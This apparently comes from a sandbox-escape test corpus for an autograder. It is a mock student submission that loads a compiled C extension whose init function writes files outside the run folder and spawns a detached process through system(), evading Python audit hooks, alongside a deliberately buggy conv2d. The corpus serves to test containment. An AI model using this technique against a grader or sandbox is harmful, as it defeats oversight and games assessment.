"""Escape corpus, attack 1: a native extension written into the run folder and imported.

What it attacks: the in-process guards only see what Python does. A compiled extension
module runs plain C: ``system()`` and ``open()`` from C raise no audit event, so neither
the import blocker nor the audit hook sees them. The run folder is writable, so the
submission drops a ``.so`` (carried base64 in this file; the test compiles ``C_SOURCE``
with ``cc`` and substitutes it, as a student would on their own machine) and loads it with
importlib. Its ``PyInit`` writes ``ESCAPE_WRITE`` files and runs ``ESCAPE_CMD`` through
``system()``, which also leaves a detached, environment-less ``sleep`` behind.

A successful attack: files named ``cnngrade-escape-native*`` appear in /tmp, /var/tmp, the
grader's working folder and the class folder, a process with ``cnngrade-escape-proc`` in
its command line outlives the run. Contained: the .so cannot be loaded (noexec run folder,
seccomp) or its C code only reaches the sandbox's own tmpfs; nothing appears outside.
Either way the student still collects the marks of the honest part below.
"""
import base64
import importlib.machinery
import importlib.util
import os

SO_B64 = "@@CNNGRADE_ESCAPE_SO_B64@@"  # replaced by the test with the compiled C_SOURCE

C_SOURCE = r"""
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

void *PyInit_cnngrade_escape_native(void) {
    const char *cmd = getenv("ESCAPE_CMD");
    const char *paths = getenv("ESCAPE_WRITE");
    static const char msg[] = "cnngrade-escape: written by a native extension\n";
    if (paths) {
        char buf[4096];
        strncpy(buf, paths, sizeof buf - 1);
        buf[sizeof buf - 1] = 0;
        for (char *p = strtok(buf, ":"); p; p = strtok(NULL, ":")) {
            int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd >= 0) {
                if (write(fd, msg, sizeof msg - 1) < 0) {}
                close(fd);
            }
        }
    }
    if (cmd)
        if (system(cmd) < 0) {}
    return 0;  /* no module: the import fails with SystemError, after the damage */
}
"""

NAME = "cnngrade_escape_native"


def _outside_targets():
    """Places outside the run folder worth writing to: temp folders, the grader's
    working folder (its cwd, through /proc) and the folder next to it."""
    targets = ["/tmp/cnngrade-escape-native.txt", "/var/tmp/cnngrade-escape-native.txt"]
    try:
        cwd = os.readlink(f"/proc/{os.getppid()}/cwd")
        targets.append(os.path.join(cwd, "cnngrade-escape-native.txt"))
        klass = os.path.join(os.path.dirname(cwd), "class")  # next to it: the class folder?
        mine = os.path.join(klass, os.path.basename(__file__))
        if os.path.isfile(mine) and open(mine, "rb").read() == open(__file__, "rb").read():
            targets.append(os.path.join(klass, "cnngrade-escape-native.py"))
    except OSError:
        pass
    return targets


def _attack():
    if SO_B64.startswith("@@"):
        return "no compiled extension"
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(here, NAME + importlib.machinery.EXTENSION_SUFFIXES[0])
    with open(path, "wb") as fh:  # the own run folder: allowed
        fh.write(base64.b64decode(SO_B64))
    os.environ["ESCAPE_WRITE"] = ":".join(_outside_targets())
    os.environ["ESCAPE_CMD"] = (
        "echo cnngrade-escape > /tmp/cnngrade-escape-native-system.txt; "
        "env -i setsid sh -c 'sleep 20; true' cnngrade-escape-proc-native "
        "</dev/null >/dev/null 2>&1 &")
    try:
        spec = importlib.util.spec_from_file_location(NAME, path)
        importlib.util.module_from_spec(spec)  # dlopen + PyInit: the C code runs here
    except BaseException as exc:  # SystemError (no module returned), or refused
        return f"{type(exc).__name__}: {exc}"
    return "loaded"


try:
    OUTCOME = _attack()
except BaseException as exc:  # never lose the marks over the attack
    OUTCOME = f"{type(exc).__name__}: {exc}"
print("cnngrade-escape report:", OUTCOME)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def conv2d_forward(x, w, b, stride=1, padding=0):
    return _honest_conv2d(x, w, b, stride, padding)
